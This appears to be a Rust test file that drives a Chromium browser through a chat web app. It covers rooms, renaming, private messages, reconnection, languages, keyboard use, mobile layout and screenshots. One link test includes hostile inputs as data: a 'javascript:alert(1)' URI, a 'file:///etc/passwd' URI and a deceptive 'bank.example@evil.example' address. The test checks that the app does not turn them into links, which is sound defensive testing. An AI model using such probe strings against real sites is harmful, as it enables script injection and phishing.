    assert_eq!(texts(&mut lobby), ["only in the lobby", "still alone"]);
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn one_goes_to_another_room_and_back_without_loading_the_page_again() {
    let daemon = Daemon::start(&[]);
    let mut browser = Browser::start();
    let mut tab = browser.open_with(&format!("http://{}/", daemon.address), CUTTABLE);
    tab.wait_for("document.body.dataset.state === 'open'");
    tab.evaluate("window.notReloaded = true");
    say(&mut tab, "in the lobby");
    wait_for_messages(&mut tab, 1);

    let arrived = |tab: &mut Tab, room: &str, path: &str| {
        tab.wait_for(&format!("document.querySelector('#room').textContent === {}", quoted(room)));
        assert_eq!(tab.text("location.pathname"), path);
    };
    say(&mut tab, "/join Tea & 茶");
    arrived(&mut tab, "Tea & 茶", "/r/Tea%20%26%20%E8%8C%B6");
    tab.wait_for("document.querySelectorAll('.message').length === 0");
    say(&mut tab, "in the tea room");
    wait_for_messages(&mut tab, 1);

    tab.evaluate("history.back()");
    arrived(&mut tab, "lobby", "/");
    tab.wait_for("document.querySelector('.text')?.textContent === 'in the lobby'");
    tab.evaluate("history.forward()");
    arrived(&mut tab, "Tea & 茶", "/r/Tea%20%26%20%E8%8C%B6");
    tab.wait_for("document.querySelector('.text')?.textContent === 'in the tea room'");
    assert_eq!(tab.evaluate("window.notReloaded"), true);

    // A room that cannot be is not in the address either.
    say(&mut tab, "/join a/b");
    tab.wait_for("document.querySelector('.system.error') !== null");
    arrived(&mut tab, "Tea & 茶", "/r/Tea%20%26%20%E8%8C%B6");

    // Back while there is no connection: it is made to the room of the address.
    tab.evaluate("window.away = true; sockets.at(-1).close()");
    tab.wait_for("document.body.dataset.state === 'waiting'");
    tab.evaluate("history.back()");
    tab.wait_for("location.pathname === '/'");
    tab.evaluate("window.away = false");
    arrived(&mut tab, "lobby", "/");
    wait_for_notice(&mut tab, "You are in lobby now, as Tourist 2");
    wait_for_messages(&mut tab, 1);
    assert_eq!(texts(&mut tab), ["in the lobby"]);
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn a_rename_is_seen_by_the_other_tab_and_remembered_for_the_next_visit() {
    let daemon = Daemon::start(&[]);
    let mut browser = Browser::start();
    let mut one = enter(&mut browser, &daemon.address);
    let mut two = enter(&mut browser, &daemon.address);
    let (first, second) = (my_name(&mut one), my_name(&mut two));

    one.click("#self");
    one.wait_for("document.querySelector('#settings').open");
    one.type_text("Änne");
    one.press("Enter");
    one.wait_for("document.querySelector('#me').textContent === 'Änne' && !document.querySelector('#settings').open");
    wait_for_notice(&mut one, "You are now called Änne");
    wait_for_notice(&mut two, &format!("{first} is now called Änne"));
    wait_for_people(&mut two, &["Änne", &second]);

    // A name that is taken is refused where it was asked for.
    two.click("#self");
    two.type_text("änne");
    two.press("Enter");
    two.wait_for("document.querySelector('#naming-problem').textContent !== ''");
    two.press("Escape");
    assert_eq!(my_name(&mut two), second);

    one.reload();
    one.wait_for("document.querySelector('#me').textContent === 'Änne'");
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn a_private_message_reaches_one_and_is_marked() {
    let daemon = Daemon::start(&[]);
    let mut browser = Browser::start();
    let mut ann = enter(&mut browser, &daemon.address);
    let mut bob = enter(&mut browser, &daemon.address);
    let mut eve = enter(&mut browser, &daemon.address);
    for (tab, name) in [(&mut ann, "Ann A."), (&mut bob, "Bob"), (&mut eve, "Eve")] {
        take_name(tab, name);
    }
    wait_for_people(&mut ann, &["Ann A.", "Bob", "Eve"]);
    ann.resize(1100, 700, Device::Desk); // wide enough for the list to stand beside the room

    ann.click("#names button[data-name=Bob]");
    assert_eq!(ann.text(VALUE), "/msg \"Bob\" ");
    ann.type_text("between us");
    ann.press("Enter");
    for (tab, mark) in [(&mut ann, "to Bob, private"), (&mut bob, "from Ann A., private")] {
        wait_for_messages(tab, 1);
        assert_eq!(messages(tab), [(mark.to_owned(), "between us".to_owned())]);
        assert_eq!(tab.evaluate("document.querySelector('.message').matches('.private')"), true);
    }

    // The answer begins at the name of the one who wrote, spaces and all.
    bob.click(".private .name");
    assert_eq!(bob.text(VALUE), "/msg \"Ann A.\" ");
    bob.type_text("I see");
    bob.press("Enter");
    wait_for_messages(&mut ann, 2);
    say(&mut bob, "and this is for all");
    wait_for_messages(&mut eve, 1);
    assert_eq!(texts(&mut eve), ["and this is for all"]);
}

/// Keeps the page's sockets, so that a test can cut them; and lets no new one reach the daemon while `away` is set.
const CUTTABLE: &str = "window.sockets = []; window.away = false;
    window.WebSocket = class extends WebSocket {
      constructor(url) { super(window.away ? url.replace(/^(ws:..[^/]*).*/, '$1/nowhere/at/all') : url); sockets.push(this); }
    };";

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn a_reader_who_was_away_sees_one_unbroken_stream() {
    let daemon = Daemon::start(&["--no-rate-limit"]);
    let mut browser = Browser::start();
    let mut tab = browser.open_with(&format!("http://{}/", daemon.address), CUTTABLE);
    tab.wait_for("document.body.dataset.state === 'open'");
    let mut other = daemon.open("/?quiet=1");
    chatter(&mut other, &mut tab, 0, 3);
    take_name(&mut tab, "Reader");

    // More than a newcomer is shown, so that only the number of the last message seen can have brought them.
    tab.evaluate("window.away = true; sockets.at(-1).close()");
    tab.wait_for("document.body.dataset.state === 'waiting'");
    tab.type_text("typed on the train");
    for line in 4..=120 {
        other.send_text(&format!("line {line}"));
    }
    tab.evaluate("window.away = false");
    wait_for_messages(&mut tab, 120);
    let all: Vec<String> = (1..=120).map(|line| format!("line {line}")).collect();
    assert_eq!(texts(&mut tab), all, "each once, in order, and none is missing");
    tab.wait_for("document.querySelector('#me').textContent === 'Reader'");
    assert_eq!(tab.text(VALUE), "typed on the train");
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn scrolling_up_brings_older_messages_in_pages_and_keeps_the_place() {
    let daemon = Daemon::start(&["--no-rate-limit"]);
    let mut other = daemon.open("/?quiet=1");
    for line in 1..=130 {
        other.send_text(&format!("line {line}"));
    }
    // The messages come back to the one who said them: after the last, all are there.
    while other.message() != "line 130" {}
    let mut browser = Browser::start();
    let mut tab = enter(&mut browser, &daemon.address);
    wait_for_messages(&mut tab, 50);
    tab.wait_for(AT_END);
    assert_eq!(texts(&mut tab)[0], "line 81");

    let place = "[...document.querySelectorAll('.message')].find((message) => message.textContent.includes('line 81'))
        .getBoundingClientRect().top - document.querySelector('#view').getBoundingClientRect().top";
    tab.evaluate("document.querySelector('#view').scrollTop = 0");
    wait_for_messages(&mut tab, 100);
    tab.drawn();
    let shift = tab.evaluate(place).as_f64().unwrap();
    assert!((-200.0..200.0).contains(&shift), "line 81 was at the top, and is there still: {shift}");

    tab.evaluate("document.querySelector('#view').scrollTop = 0");
    wait_for_messages(&mut tab, 130);
    tab.evaluate("document.querySelector('#view').scrollTop = 0");
    tab.wait_for("document.querySelector('#older').checkVisibility()");
    assert_eq!(tab.text("document.querySelector('#older').textContent"), "This is the beginning of this room");
    let all: Vec<String> = (1..=130).map(|line| format!("line {line}")).collect();
    assert_eq!(texts(&mut tab), all);
    assert_eq!(tab.evaluate("document.querySelectorAll('.day').length"), 1, "one day, one line about it");
}

/// As in the settings, where a list opens that belongs to the browser and not to the page.
fn choose_language(tab: &mut Tab, language: &str) {
    tab.evaluate(&format!(
        "(() => {{ const list = document.querySelector('#language'); list.value = {}; list.dispatchEvent(new Event('change')) }})()",
        quoted(language)
    ));
    assert_eq!(tab.text("document.documentElement.lang"), language);
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn the_page_speaks_english_and_chinese() {
    let daemon = Daemon::start(&[]);
    let mut browser = Browser::start();
    let mut tab = browser.open_with(
        &format!("http://{}/", daemon.address),
        "Object.defineProperty(navigator, 'languages', { get: () => ['zh-CN', 'en'] })",
    );
    tab.wait_for("document.querySelector('#status-more').textContent === '1 人在线'");
    assert_eq!(tab.text("document.documentElement.lang"), "zh-Hans");
    assert_eq!(tab.text("document.querySelector('#send').textContent"), "发送");
    assert_eq!(tab.text("document.querySelector('#text').placeholder"), "发消息到 lobby");
    assert_eq!(tab.text("document.querySelector('#view').getAttribute('aria-label')"), "消息");
    say(&mut tab, "/msg Nobody hello");
    wait_for_notice(&mut tab, "房间里没有叫这个名字的人。");

    // The other language at once, in what stands there already, and still after the page was loaded again.
    choose_language(&mut tab, "en");
    assert_eq!(tab.text("document.querySelector('#send').textContent"), "Send");
    assert_eq!(tab.text("document.querySelector('#text').placeholder"), "Message lobby");
    assert_eq!(tab.text("document.querySelector('#status-more').textContent"), "1 person");
    let chinese = "[...document.querySelectorAll('body *')].filter((element) => element.checkVisibility())
        .map((element) => element.innerText).join()";
    let seen = tab.text(chinese);
    assert!(!seen.contains("消息") && !seen.contains("房间"), "{seen}");
    tab.reload();
    tab.wait_for("document.querySelector('#status-more').textContent === '1 person'");
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn commands_and_names_complete() {
    let daemon = Daemon::start(&[]);
    let mut browser = Browser::start();
    let mut tab = enter(&mut browser, &daemon.address);
    let mut other = enter(&mut browser, &daemon.address);
    take_name(&mut other, "Grace \"G\" H");
    wait_for_people(&mut tab, &["Grace \"G\" H", "Tourist 1"]);
    let offered = "[...document.querySelectorAll('#suggestions li')].map((row) => row.textContent.split(' ')[0])";

    tab.click("#text");
    tab.type_text("/");
    assert_eq!(tab.evaluate(offered), json!(["/nick", "/join", "/msg", "/me", "/who", "/ping", "/help"]));
    tab.press("ArrowDown");
    tab.press("ArrowUp");
    tab.press("Escape");
    assert_eq!(tab.text(VALUE), "/", "Escape takes the offer away, and nothing else");
    tab.type_text("m");
    assert_eq!(tab.evaluate(offered), json!(["/msg", "/me"]));
    tab.press("Enter");
    assert_eq!(tab.text(VALUE), "/msg ");
    tab.type_text("gr");
    tab.press("Tab");
    assert_eq!(tab.text(VALUE), r#"/msg "Grace \"G\" H" "#, "as the server reads it");
    tab.type_text("hello");
    tab.press("Enter");
    wait_for_messages(&mut other, 1);

    tab.type_text("ask gra");
    tab.press("Tab");
    assert_eq!(tab.text(VALUE), "ask Grace \"G\" H ");
    tab.press("Enter");
    wait_for_messages(&mut other, 2);
    other.wait_for("document.querySelectorAll('.message.mention').length === 1");

    // What begins no name leaves Tab to the browser.
    tab.type_text("xyz");
    tab.press("Tab");
    assert_eq!(tab.text("document.activeElement.id"), "send");

    say(&mut other, "/help");
    other.wait_for("document.querySelectorAll('.help-row').length >= 6");
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn the_emoji_picker_inserts_where_one_types() {
    let daemon = Daemon::start(&[]);
    let mut browser = Browser::start();
    let mut tab = enter(&mut browser, &daemon.address);
    tab.type_text("ab");
    tab.evaluate("document.querySelector('#text').setSelectionRange(1, 1)");
    tab.click("#emoji-open");
    tab.click("#emoji button:nth-child(2)");
    assert_eq!(tab.text(VALUE), "a😄b");
    assert_eq!(tab.text("document.activeElement.id"), "text");
    assert_eq!(tab.evaluate("document.querySelector('#emoji').hidden"), true);
    tab.press("Enter");
    wait_for_messages(&mut tab, 1);
    assert_eq!(texts(&mut tab), ["a😄b"]);
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn all_of_it_goes_by_keyboard_alone() {
    let daemon = Daemon::start(&[]);
    let mut browser = Browser::start();
    let mut tab = enter(&mut browser, &daemon.address);
    let mut other = enter(&mut browser, &daemon.address);
    wait_for_people(&mut tab, &["Tourist 1", "Tourist 2"]);
    tab.resize(1100, 700, Device::Desk);
    let walk_to = |tab: &mut Tab, selector: &str| {
        for _ in 0..12 {
            tab.press("Tab");
            if tab.evaluate(&format!("document.activeElement.matches({})", quoted(selector))) == true {
                let ring = tab.text("getComputedStyle(document.activeElement).outlineStyle");
                assert_ne!(ring, "none", "one sees where one is: {selector}");
                return;
            }
        }
        panic!("Tab does not reach {selector}");
    };

    walk_to(&mut tab, "#self");
    tab.press("Enter");
    tab.wait_for("document.querySelector('#settings').open");
    tab.type_text("Keyboarder");
    tab.press("Enter");
    tab.wait_for("document.querySelector('#me').textContent === 'Keyboarder'");
    tab.wait_for("document.activeElement.id === 'text'");
    wait_for_people(&mut tab, &["Keyboarder", "Tourist 2"]); // the list is written anew, under the one who walks there

    walk_to(&mut tab, "#names button");
    tab.press("ArrowDown");
    tab.press("Enter");
    assert_eq!(tab.text(VALUE), "/msg \"Tourist 2\" ");
    assert_eq!(tab.text("document.activeElement.id"), "text");
    walk_to(&mut tab, "#emoji-open");
    tab.press("Enter");
    tab.wait_for("!document.querySelector('#emoji').hidden");
    tab.press("ArrowRight");
    tab.press("ArrowDown");
    tab.press("ArrowUp");
    tab.press("Enter");
    assert_eq!(tab.text("document.activeElement.id"), "text");
    tab.press("Enter");
    wait_for_messages(&mut other, 1);
    assert_eq!(messages(&mut other), [("from Keyboarder, private".to_owned(), "😄".to_owned())]);
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn a_link_is_a_link_only_for_http_and_https() {
    let daemon = Daemon::start(&[]);
    let mut browser = Browser::start();
    let mut tab = enter(&mut browser, &daemon.address);
    let rows = [
        ("see https://example.com/a?b=c#d.", json!(["https://example.com/a?b=c#d"])),
        ("(HTTP://Example.com/a_(b))", json!(["HTTP://Example.com/a_(b)"])),
        (
            "看https://example.com/汉，好吗？http://example.org。",
            json!(["https://example.com/汉", "http://example.org"]),
        ),
        ("javascript:alert(1) data:text/html,x ftp://example.com file:///etc/passwd www.example.com", json!([])),
        ("https://bank.example@evil.example/ http://", json!([])),
    ];
    for (index, (text, links)) in rows.iter().enumerate() {
        say(&mut tab, text);
        wait_for_messages(&mut tab, index + 1);
        let last = "[...[...document.querySelectorAll('.message')].at(-1).querySelectorAll('a')]
            .map((link) => link.textContent)";
        assert_eq!(tab.evaluate(last), *links, "{text}");
        assert_eq!(texts(&mut tab)[index], *text, "and the text is as it was");
    }
    assert_eq!(tab.evaluate(LINKS_ARE_SAFE), true);
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn notifications_are_off_until_asked_for_and_then_come_for_what_is_meant_for_one() {
    let daemon = Daemon::start(&[]);
    let mut browser = Browser::start();
    let stand_in = "window.told = []; window.asked = 0;
        window.Notification = class extends EventTarget {
          static permission = 'default';
          static requestPermission() { asked += 1; return Promise.resolve(Notification.permission = 'granted'); }
          constructor(title, { body }) { super(); told.push([title, body]); }
        };";
    let mut tab = browser.open_with(&format!("http://{}/", daemon.address), stand_in);
    tab.wait_for("document.body.dataset.state === 'open'");
    take_name(&mut tab, "Ann");
    let mut other = daemon.open("/?quiet=1");
    look(&mut tab, Looking::Elsewhere);
    other.send_text("Ann, are you there?");
    wait_for_messages(&mut tab, 1);
    assert_eq!(tab.evaluate("[told, asked]"), json!([[], 0]), "nobody has asked for it");

    look(&mut tab, Looking::Here);
    tab.click("#self");
    tab.click("#notify");
    tab.wait_for("asked === 1 && document.querySelector('#notify').checked");
    tab.press("Escape");
    look(&mut tab, Looking::Elsewhere);
    // One after the other: a private message has no place in the order of the room.
    for (index, text) in ["Anna is somebody else", "but ANN is meant", "/msg Ann and so is this"].iter().enumerate() {
        other.send_text(text);
        wait_for_messages(&mut tab, index + 2);
    }
    let bodies = tab.evaluate("told.map(([, body]) => body)");
    assert_eq!(bodies, json!(["but ANN is meant", "and so is this"]));
}

/// A morning among tourists, as the pictures show it: who says what, `0` being the page itself.
const MORNING: &[(usize, &str)] = &[
    (1, "Good morning! Does anybody know when the museum opens?"),
    (2, "At nine. Closed on Mondays, but today we are lucky 🙂"),
    (3, "早上好！我们在南门等你们，旁边有一家很好吃的早餐店 🥢"),
    (0, "太好了，我们十分钟后到！"),
    (0, "They are waiting at the south gate, and there is breakfast"),
    (1, "/me is on the way 🏃"),
    (2, "South gate… is that this side of the river?"),
    (3, "过了桥往右走，看到那棵大榕树就到了 🌳"),
    (2, "Over the bridge, right, big tree. 谢谢！"),
    (3, "/msg Mei 给你留了一份 🥟"),
    (0, "See you under the big tree"),
];

/// Lets the page and three more tourists talk, each after having heard the one before.
fn lively_room(daemon: &Daemon, browser: &mut Browser) -> (Tab, Vec<Raw>) {
    let named = "localStorage.setItem('roomd.name', 'Mei')";
    let mut tab = browser.open_with(&format!("http://{}/", daemon.address), named);
    tab.wait_for("document.querySelector('#me').textContent === 'Mei'");
    let names = ["Jonas", "Leyla", "%E5%B0%8F%E6%9E%97"];
    let mut guests: Vec<Raw> = names.iter().map(|name| daemon.open(&format!("/?quiet=1&name={name}"))).collect();
    wait_for_people(&mut tab, &["Mei", "Jonas", "Leyla", "小林"]);
    for (index, (who, text)) in MORNING.iter().enumerate() {
        match who {
            0 => say(&mut tab, text),
            guest => guests[guest - 1].send_text(text),
        }
        wait_for_messages(&mut tab, index + 1);
    }
    (tab, guests)
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn on_a_phone_nothing_reaches_over_the_edge() {
    let daemon = Daemon::start(&[]);
    let mut browser = Browser::start();
    let (mut tab, mut guests) = lively_room(&daemon, &mut browser);
    tab.resize(360, 640, Device::Phone);
    let address = format!("https://example.com/{}", "a/".repeat(200));
    let long = ["W".repeat(400), "汉".repeat(400), address, "👩‍👩‍👧‍👦".repeat(60)];
    for text in &long {
        guests[0].send_text(text);
    }
    wait_for_messages(&mut tab, MORNING.len() + long.len());
    tab.type_text(&"M".repeat(300));
    tab.drawn();

    // The widest that clocks say, whatever this one says now.
    for clock in ["10:08 PM", "下午10:08"] {
        tab.evaluate(&format!(
            "document.querySelectorAll('time').forEach((time) => {{ time.textContent = '{clock}'; }})"
        ));
        tab.drawn();
        nothing_is_outside(&mut tab);
    }
    tab.evaluate("document.querySelector('#text').value = ''");
    for (open, close) in [
        ("document.querySelector('#people-open').click()", "document.querySelector('#people-close').click()"),
        ("document.querySelector('#emoji-open').click()", "document.querySelector('#emoji-open').click()"),
        ("document.querySelector('#self').click()", "document.querySelector('#settings-close').click()"),
    ] {
        tab.evaluate(open);
        tab.drawn();
        nothing_is_outside(&mut tab);
        tab.evaluate(close);
    }
    tab.click("#text");
    tab.type_text("/");
    tab.drawn();
    assert_eq!(tab.evaluate("document.querySelector('#suggestions').checkVisibility()"), true);
    nothing_is_outside(&mut tab);
}

/// Neither scrolls sideways, nor lies beyond an edge, where it could not be scrolled to, but not be read either.
fn nothing_is_outside(tab: &mut Tab) {
    assert_eq!(tab.evaluate("innerWidth"), 360);
    for element in ["document.documentElement", "document.body", "document.querySelector('#view')"] {
        assert_eq!(tab.evaluate(&format!("{element}.scrollWidth <= {element}.clientWidth")), true, "{element} scrolls");
    }
    let outside = "[...document.querySelectorAll('body *')].filter((element) => element.checkVisibility())
        .filter((element) => { const { left, right } = element.getBoundingClientRect(); return left < 0 || right > 360; })
        .map((element) => `${element.tagName} ${element.className}`)";
    assert_eq!(tab.evaluate(outside), json!([]));
    assert_eq!(tab.evaluate("document.querySelector('#send').getBoundingClientRect().bottom <= innerHeight"), true);
}

/// Beside the test's own directory, so that people find them: target/screenshots.
fn screenshots() -> PathBuf {
    let directory = Path::new(env!("CARGO_TARGET_TMPDIR")).with_file_name("screenshots");
    fs::create_dir_all(&directory).expect("there is a place for pictures");
    directory
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn a_screen_that_is_turned_leaves_the_room_at_its_end() {
    let daemon = Daemon::start(&["--no-rate-limit"]);
    let mut browser = Browser::start();
    let mut tab = enter(&mut browser, &daemon.address);
    chatter(&mut daemon.open("/?quiet=1"), &mut tab, 0, 60);
    tab.wait_for(AT_END);
    tab.drawn();
    let at_end_after = |tab: &mut Tab, what: &str| {
        tab.evaluate(&format!(
            "(() => {{ const [view, log] = ['#view', '#log'].map((one) => document.querySelector(one)); {what} }})()"
        ));
        tab.drawn();
        assert_eq!(tab.evaluate(AT_END), true, "nobody has scrolled");
    };
    // Shorter text moves the view, for there is no place so far down any more; then the text is longer again; and only now
    // the browser says that the view was moved. So it sometimes goes when the width changes in steps, with the scroll bars.
    let shorter = "const before = view.scrollTop;
        log.style.fontSize = '50%';
        if (view.scrollTop >= before) throw new Error('it was not moved');";
    at_end_after(&mut tab, &format!("{shorter} log.style.fontSize = '75%'; view.dispatchEvent(new Event('scroll'));"));
    // A window that gets another size for a moment: the same, and all sizes are again what they were.
    at_end_after(
        &mut tab,
        &format!(
            "{shorter} log.style.fontSize = '75%';
             dispatchEvent(new Event('resize')); view.dispatchEvent(new Event('scroll'));"
        ),
    );

    for (width, height, device) in
        [(390, 780, Device::Phone), (780, 390, Device::Phone), (1100, 300, Device::Desk), (390, 780, Device::Phone)]
    {
        tab.resize(width, height, device);
        tab.wait_for(AT_END);
    }
}

#[test]
#[ignore = "needs Chromium: tests/run installs it and runs this"]
fn pictures_of_a_lively_room_are_taken_wide_and_narrow_light_and_dark_and_in_chinese() {
    let daemon = Daemon::start(&[]);
    let mut browser = Browser::start();
    let (mut tab, _guests) = lively_room(&daemon, &mut browser);
    let directory = screenshots();

    let mut grounds = BTreeSet::new();
    let wide = (1100, 700, Device::Desk);
    let narrow = (390, 780, Device::Phone);
    for (picture, (width, height, device), scheme, language) in [
        ("wide-light", wide, "light", "en"),
        ("wide-dark", wide, "dark", "en"),
        ("narrow-light", narrow, "light", "en"),
        ("narrow-dark", narrow, "dark", "en"),
        ("wide-chinese", wide, "light", "zh-Hans"),
    ] {
        tab.resize(width, height, device);
        tab.prefer_colours(scheme);
        choose_language(&mut tab, language);
        // The list of people goes when the screen gets narrow, and comes back by itself.
        tab.wait_for(&format!("document.querySelector('#people').hidden === {}", device == Device::Phone));
        tab.wait_for("document.getAnimations().length === 0"); // colours change softly
        tab.drawn();
        tab.wait_for(AT_END);
        grounds.insert(tab.text("getComputedStyle(document.body).backgroundColor"));

        let bytes = tab.screenshot();
        fs::write(directory.join(format!("{picture}.png")), &bytes).expect("the picture can be kept");
        let (signature, rest) = bytes.split_at(8);
        assert_eq!(signature, b"\x89PNG\r\n\x1a\n");
        let number = |at: usize| u32::from_be_bytes(*rest[at..].first_chunk().unwrap());
        let dots = if device == Device::Phone { 2 } else { 1 };
        assert_eq!((number(8), number(12)), (width * dots, height * dots), "its header says its size");
        // One colour all over would take some 5 kB.
        assert!(bytes.len() > 20_000, "{picture} shows nothing: {} bytes", bytes.len());
    }
    assert_eq!(grounds.len(), 2, "light is not dark: {grounds:?}");
}
